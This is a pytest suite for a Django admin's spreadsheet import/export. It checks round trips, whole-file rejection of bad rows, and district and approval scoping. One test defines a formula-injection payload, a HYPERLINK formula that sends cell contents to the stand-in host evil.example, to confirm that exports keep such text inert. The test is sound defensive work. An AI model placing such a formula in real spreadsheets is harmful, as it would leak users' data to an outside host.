"""Excel and CSV through the admin: an export imported back changes nothing; a file with one
bad row is refused whole, with its errors by row and column; scoping holds in imports."""

import csv
import datetime
import importlib.util
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from enterprises.models import Cadre, Enterprise, Problem
from enterprises.resources import EnterpriseResource, ProblemResource
from projects.choices import ReportStatus, Stage
from projects.models import AnnualPlan, ProgressReport, Project
from projects.resources import ProjectResource
from tests.factories import (
    AnnualPlanFactory,
    CadreFactory,
    EnterpriseFactory,
    EnterpriseLabelFactory,
    ProblemFactory,
    ProgressReportFactory,
    credit_code,
)
from tests.races import lose_the_race_once

from .helpers import admin_url, client_for

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMATS = {"xlsx": "0", "csv": "1"}  # index in ScopedImportExportMixin.import_formats
MODELS = [Project, AnnualPlan, ProgressReport, Enterprise, Cadre, Problem]


def export(client, model, fmt):
    response = client.post(admin_url(model, "export"), {"format": FORMATS[fmt], "resource": "0"})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    return response.content


def dry_run(client, model, content, fmt):
    upload = SimpleUploadedFile(f"upload.{fmt}", content)
    return client.post(
        admin_url(model, "import"),
        {"resource": "0", "format": FORMATS[fmt], "import_file": upload},
    )


def confirm(client, model, dry_run_response):
    form = dry_run_response.context["confirm_form"]
    return client.post(admin_url(model, "process_import"), form.initial)


def snapshot():
    """Every row of the importable models, and how many history records exist."""
    rows = {m.__name__: list(m.objects.order_by("pk").values()) for m in MODELS}
    rows["labels"] = list(Enterprise.labels.through.objects.order_by("pk").values())
    rows["history"] = [m.history.count() for m in (Project, ProgressReport, Problem)]
    return rows


@pytest.fixture
def ledger(world):
    """Rich rows in both districts: every column of every import has a value somewhere."""
    labels = [EnterpriseLabelFactory(code="zjtx"), EnterpriseLabelFactory(code="gxjs")]
    world.enterprise.labels.set(labels)
    for district, project in ((world.hualong, world.project), (world.jingkai, world.other_project)):
        project.owner = EnterpriseFactory(district=district)
        project.national_code = f"2022-410900-{district.pk:02d}-01-000001"[:24].ljust(24, "0")
        project.latitude, project.longitude = Decimal("35.761234"), Decimal("115.029876")
        project.actual_start = datetime.date(2022, 4, 1)
        project.stage = Stage.UNDER_CONSTRUCTION
        project.save()
        AnnualPlanFactory(project=project, year=2022, planned_investment=Decimal("12345.67"))
        ProgressReportFactory(project=project, month=1, approved=True)
        ProgressReportFactory(project=project, month=2, completed_investment=Decimal("0.5"))
        CadreFactory(district=district)
        ProblemFactory(district=district, project=project, enterprise=None, resolved=True)
        ProblemFactory(district=district, assignee=world.cadre, due_date=None)
    return world


# --- Round trip -------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("model", MODELS, ids=lambda m: m.__name__)
def test_export_then_import_changes_nothing(ledger, model, fmt):
    client = client_for(ledger.city_admin)
    before = snapshot()
    content = export(client, model, fmt)
    checked = dry_run(client, model, content, fmt)
    result = checked.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), (
        [r.errors for r in result.invalid_rows],
        [e.error for row in result.row_errors() for e in row[1]],
    )
    assert result.totals["skip"] == model.objects.count() > 0
    assert confirm(client, model, checked).status_code == 302
    assert snapshot() == before


@pytest.mark.parametrize("model", MODELS, ids=lambda m: m.__name__)
def test_a_reporters_round_trip_changes_nothing(ledger, model):
    client = client_for(ledger.reporter)
    before = snapshot()
    checked = dry_run(client, model, export(client, model, "xlsx"), "xlsx")
    result = checked.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    confirm(client, model, checked)
    assert snapshot() == before


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def exported_cells(content, fmt, column):
    """{column header: (value, is text)} of every exported row, as a spreadsheet reads it."""
    if fmt == "xlsx":
        rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows())
        index = [cell.value for cell in rows[0]].index(column)
        return [
            (row[index].value, row[index].data_type, row[index].quotePrefix) for row in rows[1:]
        ]
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    index = rows[0].index(column)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_exports_keep_formula_like_text_as_text_and_import_back_unchanged(world, fmt):
    ProblemFactory(district=world.hualong, enterprise=world.enterprise, title=FORMULA_TITLE)
    world.cadre.phone = "+86 139 0000 0000"
    world.cadre.save()
    world.project.name = "@SUM(1+1)"
    world.project.longitude = Decimal("-115.029876")  # a negative number stays a number
    world.project.save()
    client = client_for(world.city_admin)
    problems, projects = export(client, Problem, fmt), export(client, Project, fmt)
    cadres = export(client, Cadre, fmt)

    if fmt == "xlsx":
        assert exported_cells(problems, fmt, "Title") == [(FORMULA_TITLE, "s", True)]
        assert exported_cells(cadres, fmt, "Phone") == [("+86 139 0000 0000", "s", True)]
        assert ("@SUM(1+1)", "s", True) in exported_cells(projects, fmt, "Name")
        assert (-115.029876, "n", False) in exported_cells(projects, fmt, "Longitude")
    else:
        assert exported_cells(problems, fmt, "Title") == ["'" + FORMULA_TITLE]
        assert exported_cells(cadres, fmt, "Phone") == ["'+86 139 0000 0000"]
        assert "'@SUM(1+1)" in exported_cells(projects, fmt, "Name")
        assert "-115.029876" in exported_cells(projects, fmt, "Longitude")

    before = snapshot()
    for model, content in ((Problem, problems), (Project, projects), (Cadre, cadres)):
        checked = dry_run(client, model, content, fmt)
        result = checked.context["result"]
        assert not result.has_errors() and not result.has_validation_errors()
        assert result.totals["skip"] == model.objects.count()
        confirm(client, model, checked)
    assert snapshot() == before


# --- Bad files -----------------------------------------------------------------------------------


def file_of(headers, rows, fmt):
    data = tablib.Dataset(*rows, headers=headers)
    content = data.export(fmt)
    return content.encode("utf-8") if isinstance(content, str) else content


PROJECT_HEADERS = ["code", "name", "district", "level", "category", "nature", "total_investment"]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_one_bad_row_rejects_the_whole_file_with_row_and_column(world, fmt):
    rows = [
        ["new-ok", "新项目甲", "hualong", "city", "industrial", "new", "1000"],
        ["new-bad", "新项目乙", "hualong", "city", "industrial", "sideways", "abc"],
    ]
    client = client_for(world.city_admin)
    before = snapshot()
    response = dry_run(client, Project, file_of(PROJECT_HEADERS, rows, fmt), fmt)
    result = response.context["result"]
    assert "confirm_form" not in response.context
    [bad] = result.invalid_rows
    assert bad.number == 2
    assert set(bad.field_specific_errors) == {"Nature", "Total investment (10k yuan)"}
    assert "sideways" in " ".join(bad.field_specific_errors["Nature"])
    page = response.content.decode()
    assert "Total investment (10k yuan)" in page and "sideways" in page
    assert snapshot() == before


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_wrong_credit_code_check_character_is_refused(world, fmt):
    good = credit_code(900)
    wrong = good[:-1] + ("0" if good[-1] != "0" else "1")
    rows = [[good, "甲公司", "hualong"], [wrong, "乙公司", "hualong"]]
    client = client_for(world.reporter)
    response = dry_run(
        client, Enterprise, file_of(["credit_code", "name", "district"], rows, fmt), fmt
    )
    [bad] = response.context["result"].invalid_rows
    assert bad.number == 2
    assert list(bad.field_specific_errors) == ["Unified social credit code"]
    assert not Enterprise.objects.filter(name__in=["甲公司", "乙公司"]).exists()


def test_confirming_a_bad_file_anyway_imports_nothing(world):
    """A crafted confirm step (the file stored by a failed dry run) still imports nothing."""
    rows = [
        ["new-ok", "新项目甲", "hualong", "city", "industrial", "new", "1000"],
        ["new-bad", "新项目乙", "nowhere", "city", "industrial", "new", "1000"],
    ]
    client = client_for(world.city_admin)
    response = dry_run(client, Project, file_of(PROJECT_HEADERS, rows, "csv"), "csv")
    stored = response.context["form"].cleaned_data["import_file"].tmp_storage_name
    final = client.post(
        admin_url(Project, "process_import"),
        {
            "import_file_name": stored,
            "original_file_name": "upload.csv",
            "format": FORMATS["csv"],
            "resource": "0",
        },
        follow=True,
    )
    assert any("nothing was imported" in str(m) for m in final.context["messages"])
    assert not Project.objects.filter(code__startswith="new-").exists()


def test_a_reporter_cannot_import_into_another_district(world):
    rows = [
        ["new-mine", "我的新项目", "hualong", "city", "industrial", "new", "1000"],
        ["new-theirs", "别区的项目", "jingkai", "city", "industrial", "new", "1000"],
    ]
    response = dry_run(
        client_for(world.reporter), Project, file_of(PROJECT_HEADERS, rows, "csv"), "csv"
    )
    [bad] = response.context["result"].invalid_rows
    assert bad.number == 2 and list(bad.field_specific_errors) == ["District (code)"]
    assert not Project.objects.filter(code__startswith="new-").exists()


def test_a_reporter_cannot_overwrite_another_districts_project_by_its_code(world):
    rows = [[world.other_project.code, "改名", "hualong", "city", "industrial", "new", "1"]]
    resource = ProjectResource(user=world.reporter)
    result = resource.import_data(tablib.Dataset(*rows, headers=PROJECT_HEADERS))
    assert result.has_validation_errors()
    world.other_project.refresh_from_db()
    assert world.other_project.name != "改名"


def test_importing_another_districts_hidden_code_does_not_confirm_it(world):
    world.other_project.is_published = False
    world.other_project.save()
    rows = [[world.other_project.code, "新项目", "hualong", "city", "industrial", "new", "1"]]
    dataset = tablib.Dataset(*rows, headers=PROJECT_HEADERS)
    result = ProjectResource(user=world.reporter).import_data(dataset)
    [bad] = result.invalid_rows
    assert bad.field_specific_errors == {
        "Project code": ["This project code cannot be used; choose another one."]
    }


def test_a_reporter_cannot_name_another_districts_project_in_a_plan(world):
    from projects.resources import AnnualPlanResource

    rows = [[world.other_project.code, 2022, "100"]]
    dataset = tablib.Dataset(*rows, headers=["project", "year", "planned_investment"])
    result = AnnualPlanResource(user=world.reporter).import_data(dataset)
    assert result.has_validation_errors()
    assert not AnnualPlan.objects.exists()


def test_an_approved_report_cannot_be_changed_by_import(world, planned):
    from projects.resources import ProgressReportResource

    report = ProgressReportFactory(project=world.project, month=4, approved=True)
    rows = [[world.project.code, 2022, 4, "5000"], [world.project.code, 2022, 5, "800"]]
    dataset = tablib.Dataset(*rows, headers=["project", "year", "month", "completed_investment"])
    result = ProgressReportResource(user=world.reporter).import_data(dataset)
    [bad] = result.invalid_rows
    assert bad.number == 1 and list(bad.field_specific_errors) == ["Status"]
    report.refresh_from_db()
    assert report.completed_investment == Decimal("1000.00")
    assert ProgressReport.objects.count() == 1


def test_imported_reports_are_drafts_of_the_importer(world, planned):
    from projects.resources import ProgressReportResource

    rows = [[world.project.code, 2022, 5, "800", "approved"]]
    headers = ["project", "year", "month", "completed_investment", "status"]
    result = ProgressReportResource(user=world.reporter).import_data(
        tablib.Dataset(*rows, headers=headers)
    )
    assert not result.has_validation_errors() and not result.has_errors()
    report = ProgressReport.objects.get()
    assert (report.status, report.created_by) == (ReportStatus.DRAFT, world.reporter)
    assert report.edited_by == world.reporter  # four eyes: the importer may not approve it


def test_a_credit_code_written_with_spaces_and_dashes_finds_its_enterprise(world):
    existing = EnterpriseFactory(district=world.hualong, name="旧名称")
    code = existing.credit_code.lower()
    rows = [[f"{code[:8]}-{code[8:]} ", "新名称", "hualong"]]
    result = EnterpriseResource(user=world.reporter).import_data(
        tablib.Dataset(*rows, headers=["credit_code", "name", "district"])
    )
    assert not result.has_validation_errors() and not result.has_errors()
    existing.refresh_from_db()
    assert existing.name == "新名称"


def test_a_lost_race_on_a_credit_code_is_the_rows_error(world, monkeypatch):
    """Another import created the enterprise after this one looked for it by its code."""
    existing = EnterpriseFactory(district=world.hualong)
    monkeypatch.setattr(EnterpriseResource, "get_instance", lambda self, loader, row: None)
    lose_the_race_once(monkeypatch, Enterprise)
    rows = [[existing.credit_code, "同一家公司", "hualong"]]
    with translation.override("en"):
        result = EnterpriseResource(user=world.reporter).import_data(
            tablib.Dataset(*rows, headers=["credit_code", "name", "district"])
        )
    [bad] = result.invalid_rows
    assert "Enterprise with this Unified social credit code already exists." in str(bad.error)
    assert not result.has_errors()
    assert Enterprise.objects.get(credit_code=existing.credit_code).name == existing.name


def test_new_problem_gets_a_tracking_code_and_an_unknown_one_is_refused(world):
    headers = ["tracking_code", "title", "description", "district", "category", "source"]
    rows = [["", "缺少用工", "招工难", "hualong", "labour", "visit"]]
    result = ProblemResource(user=world.reporter).import_data(
        tablib.Dataset(*rows, headers=headers)
    )
    assert not result.has_validation_errors()
    problem = Problem.objects.get()
    assert problem.tracking_code.startswith("WQ-") and problem.status == "raised"

    rows = [["WQ-20220101-ZZZZZZ", "别的问题", "x", "hualong", "labour", "visit"]]
    result = ProblemResource(user=world.reporter).import_data(
        tablib.Dataset(*rows, headers=headers)
    )
    assert result.has_validation_errors()
    assert Problem.objects.count() == 1


def test_unknown_label_code_is_an_error_not_ignored(world):
    EnterpriseLabelFactory(code="zjtx")
    rows = [[credit_code(901), "丙公司", "hualong", "zjtx,nosuch"]]
    headers = ["credit_code", "name", "district", "labels"]
    result = EnterpriseResource(user=world.reporter).import_data(
        tablib.Dataset(*rows, headers=headers)
    )
    [bad] = result.invalid_rows
    assert "nosuch" in " ".join(bad.field_specific_errors["Labels (code)"])
    assert not Enterprise.objects.filter(name="丙公司").exists()


def test_labels_of_coded_values_are_accepted(world):
    """Officials may type the Chinese label of a coded value instead of its code."""
    with translation.override("zh-hans"):
        label = str(Stage.UNDER_CONSTRUCTION.label)
    rows = [["new-label", "标签项目", "hualong", "city", "industrial", "new", "10", label]]
    result = ProjectResource(user=world.reporter).import_data(
        tablib.Dataset(*rows, headers=[*PROJECT_HEADERS, "stage"])
    )
    assert not result.has_validation_errors()
    assert Project.objects.get(code="new-label").stage == Stage.UNDER_CONSTRUCTION


# --- Templates ------------------------------------------------------------------------------------


def load_template_script():
    path = ROOT / "scripts" / "make_import_templates.py"
    spec = importlib.util.spec_from_file_location("make_import_templates", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_shipped_templates_have_every_import_column_in_chinese():
    script = load_template_script()
    for name, resource_class in script.templates().items():
        shipped = openpyxl.load_workbook(ROOT / "static" / "import-templates" / name)
        headers = [cell.value for cell in shipped.worksheets[0][1]]
        with translation.override("zh-hans"):
            expected = [str(f.column_name) for f in script.import_columns(resource_class())]
        assert headers == expected, f"{name} is stale: run scripts/make_import_templates.py"
        assert any("\u4e00" <= ch <= "\u9fff" for ch in "".join(headers)), name


def test_a_filled_in_template_imports(world, tmp_path):
    script = load_template_script()
    script.write_templates(tmp_path)
    sheet = openpyxl.load_workbook(tmp_path / "annual_plans.xlsx").worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    dataset = tablib.Dataset([world.project.code, 2023, "2500.5", "完成主体工程"], headers=headers)
    result = AnnualPlanResource_for(world.reporter).import_data(dataset)
    assert not result.has_validation_errors() and not result.has_errors()
    assert AnnualPlan.objects.get().planned_investment == Decimal("2500.50")


def AnnualPlanResource_for(user):  # noqa: N802 - reads as the class it builds
    from projects.resources import AnnualPlanResource

    return AnnualPlanResource(user=user)


def test_import_page_links_the_template(world):
    page = client_for(world.reporter).get(admin_url(Project, "import"))
    assert "import-templates/projects.xlsx" in page.content.decode()


def test_a_cadre_cannot_import_a_problem_it_would_not_see(world):
    headers = ["title", "description", "district", "category", "source", "enterprise"]
    rows = [
        ["我企业的问题", "x", "hualong", "labour", "visit", world.enterprise.credit_code],
        ["无主的问题", "x", "hualong", "labour", "visit", ""],
    ]
    result = ProblemResource(user=world.cadre_user).import_data(
        tablib.Dataset(*rows, headers=headers)
    )
    [bad] = result.invalid_rows
    assert bad.number == 2
    assert not Problem.objects.exists()
